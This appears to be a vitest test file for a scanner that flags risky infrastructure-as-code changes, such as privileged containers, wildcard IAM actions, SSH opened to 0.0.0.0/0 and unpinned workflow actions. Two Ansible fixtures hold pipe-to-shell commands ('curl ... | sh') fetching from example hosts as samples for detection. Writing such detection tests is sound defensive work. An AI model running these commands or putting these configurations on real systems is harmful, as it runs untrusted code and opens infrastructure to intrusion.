// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from "vitest";
import { assessFile, reasonsOf, summarize } from "./assess.fixture.ts";

const change = (path: string, before: string, after: string) => assessFile(path, before, after);

describe("what other tools than Terraform apply", () => {
  it("Kubernetes: each object of a file, by kind and name", () => {
    const object = (kind: string, name: string, more = "") =>
      `apiVersion: apps/v1\nkind: ${kind}\nmetadata: { name: ${name} }\n${more}`;
    const pod = (privileged: boolean) =>
      object(
        "Deployment",
        "web",
        `spec: { template: { spec: { containers: [{ name: a, securityContext: { privileged: ${privileged} } }] } } }\n`,
      );
    const other = object("ConfigMap", "settings", "data: { a: b }\n");
    const found = change("deploy/web.yaml", `${other}---\n${pod(false)}`, `${other}---\n${pod(true)}`);
    expect(summarize(found)).toEqual(["update Deployment.web compute: isolation-lost"]);
    expect(found.resources[0]).toMatchObject({ kind: "kubernetes", lines: [[9, 9]], attributes: ["spec"] });
  });

  it("a list of Kubernetes objects, and one whose keys stand in another order", () => {
    const list = (verbs: string) =>
      `apiVersion: v1\nkind: List\nitems:\n  - apiVersion: rbac.authorization.k8s.io/v1\n    kind: Role\n    metadata: { name: r }\n    rules: [{ apiGroups: [""], resources: [pods], verbs: [${verbs}] }]\n`;
    expect(summarize(change("all.yml", list("get"), list('"*"')))).toEqual([
      "update Role.r iam: wildcard-action, privilege-widened",
    ]);
    const a = "apiVersion: v1\nkind: ConfigMap\nmetadata: { name: c, namespace: n }\n";
    const b = "kind: ConfigMap\nmetadata: { namespace: n, name: c }\napiVersion: v1\n";
    expect(change("c.yaml", a, b).resources).toEqual([]);
  });

  it("a chart: templates as what they become, values by their key, and actions that stand alone", () => {
    const template = (action: string) =>
      `{{- if .Values.on }}\napiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: {{ .Release.Name }}-log\nspec:\n  template:\n    spec:\n      {{- ${action} }}\n{{- end }}\n`;
    const found = change(
      "charts/a/templates/ds.yaml",
      template("toYaml .Values.a | nindent 6"),
      template("toYaml .Values.b | nindent 6"),
    );
    expect(found.resources).toMatchObject([
      { kind: "helm", type: "DaemonSet", name: "{{ .Release.Name }}-log", attributes: ["{{ }}"] },
    ]);
    expect(found.unparsed).toEqual([]);
    expect(
      summarize(change("charts/a/values-production.yaml", "replicaCount: 3\n", "replicaCount: 1\n")),
    ).toEqual(["update values.replicaCount compute: capacity-removed"]);
  });

  it("CloudFormation, as YAML with its short functions and as JSON", () => {
    const yaml = (source: string) =>
      `Resources:\n  Sg:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      VpcId: !Ref Vpc\n      SecurityGroupIngress: [{ IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: ${source} }]\n`;
    expect(summarize(change("any/name.yaml", yaml("10.0.0.0/8"), yaml("0.0.0.0/0")))).toEqual([
      "update AWS::EC2::SecurityGroup.Sg network: cidr-opened",
    ]);
    const json = (action: string) =>
      JSON.stringify(
        {
          Resources: {
            P: {
              Type: "AWS::IAM::Policy",
              Properties: {
                PolicyDocument: { Statement: [{ Effect: "Allow", Action: action, Resource: "*" }] },
              },
            },
          },
        },
        null,
        1,
      );
    const [policy] = change("cdk.out/S.template.json", json("s3:GetObject"), json("s3:*")).resources;
    expect(policy).toMatchObject({ type: "AWS::IAM::Policy", name: "P", category: "iam" });
    expect(policy?.dangers.map(({ code }) => code)).toContain("wildcard-action");
  });

  it("Ansible: tasks by module and name, in plays, blocks and roles", () => {
    const play = (line: string) =>
      `- hosts: web\n  tasks:\n    - block:\n        - name: tool\n          ansible.builtin.shell: ${line}\n      when: fresh\n`;
    const found = change("site.yml", play("make install"), play("curl -s https://get.example.net/x | sh"));
    expect(summarize(found)).toEqual(["update ansible.builtin.shell.tool compute: untrusted-code"]);
    expect(found.resources[0]?.lines).toEqual([[5, 5]]);
    const task = (state: string) => `- name: db\n  community.general.ufw: { rule: allow, state: ${state} }\n`;
    expect(change("roles/db/tasks/main.yml", task("present"), task("absent")).resources).toMatchObject([
      { kind: "ansible", type: "community.general.ufw", name: "db" },
    ]);
  });

  it("a Dockerfile: instructions over several lines, pairs, here-documents", () => {
    const file = (user: string) =>
      `# syntax=docker/dockerfile:1\nFROM node:22@sha256:${"1".repeat(64)}\nENV A=1 \\\n    # said here\n    B="two words"\nRUN <<EOF\necho USER root\nEOF\nUSER ${user}\nCMD ["node"]\n`;
    expect(change("Dockerfile", file("node"), file("node")).resources).toEqual([]);
    const found = change("api/Dockerfile", file("node"), file("root"));
    expect(summarize(found)).toEqual(["update Dockerfile.api/Dockerfile compute: isolation-lost"]);
    expect(found.resources[0]).toMatchObject({ attributes: ["user"], lines: [[9, 9]] });
    expect(change("Dockerfile", "FROM scratch\n", "FROM scratch\nwhat is this\n").unparsed).toMatchObject([
      { reason: expect.stringContaining('line 2: "what is this" is no instruction') },
    ]);
  });

  it("workflows, kustomizations, a Jenkinsfile and Pulumi YAML", () => {
    const flow = (uses: string) =>
      `on: push\njobs: { a: { runs-on: ubuntu-24.04, steps: [{ uses: ${uses} }] } }\n`;
    const pinned = `a/b@${"1".repeat(40)}`;
    expect(reasonsOf(change(".github/workflows/x.yml", flow(pinned), flow("a/b@main")))).toEqual([
      "untrusted-code: takes code that can change unseen: a/b@main",
    ]);
    const patch = (value: boolean) =>
      `patches:\n  - patch: |-\n      - op: add\n        path: /spec\n        value: { privileged: ${value} }\n`;
    expect(change("o/kustomization.yaml", patch(false), patch(true)).resources[0]?.dangers).toMatchObject([
      { code: "isolation-lost" },
    ]);
    const job = (step: string) => `pipeline { // as ever\n  stage('x') {\n    ${step}\n  }\n}\n`;
    expect(change("Jenkinsfile", job("sh 'make'"), job("sh 'make deploy'")).resources).toMatchObject([
      { type: "workflow", name: "Jenkinsfile", attributes: ["sh"], lines: [[3, 3]] },
    ]);
    const stack = (range: string) =>
      `name: shop\nruntime: yaml\nresources:\n  web:\n    type: aws:ec2:SecurityGroup\n    properties: { ingress: [{ protocol: tcp, fromPort: 22, cidrBlocks: ["${range}"] }] }\n`;
    expect(summarize(change("Pulumi.yaml", stack("10.0.0.0/8"), stack("0.0.0.0/0")))).toEqual([
      "update aws:ec2:SecurityGroup.web network: cidr-opened",
    ]);
  });

  it("YAML that cannot be read is infrastructure with its reason", () => {
    const good = "apiVersion: v1\nkind: Service\nmetadata: { name: a }\n";
    const { unparsed } = change("svc.yaml", good, `${good}spec: [1, {\n`);
    expect(unparsed).toMatchObject([
      { path: "svc.yaml", reason: expect.stringMatching(/^Kubernetes that is not understood: line \d+/) },
    ]);
  });

  const body = "metadata: { name: a }";
  it.each([
    ["on one line", (on: boolean) => `{apiVersion: v1, kind: Pod, ${body}, spec: {hostNetwork: ${on}}}\n`],
    ["as JSON on one line", (on: boolean) => `{"apiVersion":"v1","kind":"Pod","spec":{"hostNetwork":${on}}}`],
    [
      "with keys written out",
      (on: boolean) => `? apiVersion\n: v1\n? kind\n: Pod\nspec: { hostNetwork: ${on} }\n`,
    ],
    [
      "with keys escaped",
      (on: boolean) => `"api\\u0056ersion": v1\n"\\x6bind": Pod\nspec: { hostNetwork: ${on} }\n`,
    ],
    [
      "with a byte order mark",
      (on: boolean) => `\ufeffapiVersion: v1\nkind: Pod\nspec: { hostNetwork: ${on} }\n`,
    ],
    [
      "with other line ends",
      (on: boolean) => `apiVersion: v1\r\nkind: Pod\r\nspec:\r\n  hostNetwork: ${on}\r\n`,
    ],
  ])("a manifest %s hides nothing (T41)", (_how, text) => {
    const { resources } = change("x.yaml", text(false), text(true));
    expect(resources).toMatchObject([
      { kind: "kubernetes", type: "Pod", dangers: [{ code: "isolation-lost" }] },
    ]);
  });

  it("nor does a play whose hosts come late, nor a template on one line (T41)", () => {
    const play = (run: string) =>
      `- name: a\n  gather_facts: no\n  hosts: all\n  tasks: [{ name: t, shell: ${run} }]\n`;
    expect(summarize(change("p.yml", play("make"), play("curl -s http://x.example/a | sh")))).toEqual([
      "update shell.t compute: untrusted-code",
    ]);
    const stack = (action: string) =>
      `{"Resources":{"R":{"Type":"AWS::IAM::Policy","Properties":{"PolicyDocument":{"Statement":[{"Effect":"Allow","Action":"${action}","Resource":"*"}]}}}}}`;
    expect(change("s.json", stack("s3:GetObject"), stack("*")).resources).toMatchObject([
      { kind: "cloudformation", type: "AWS::IAM::Policy", name: "R" },
    ]);
  });

  it("what only speaks of it is not it", () => {
    const doc = "# How to\n\n```yaml\napiVersion: v1\nkind: Pod\n```\n";
    expect(change("docs/how.md", doc, `${doc}more\n`)).toEqual({ resources: [], unparsed: [] });
    expect(change("package.json", '{ "name": "a" }\n', '{ "name": "b" }\n')).toEqual({
      resources: [],
      unparsed: [],
    });
    expect(change("openapi.yaml", "openapi: 3.1.0\n", "openapi: 3.1.1\n")).toEqual({
      resources: [],
      unparsed: [],
    });
  });
});
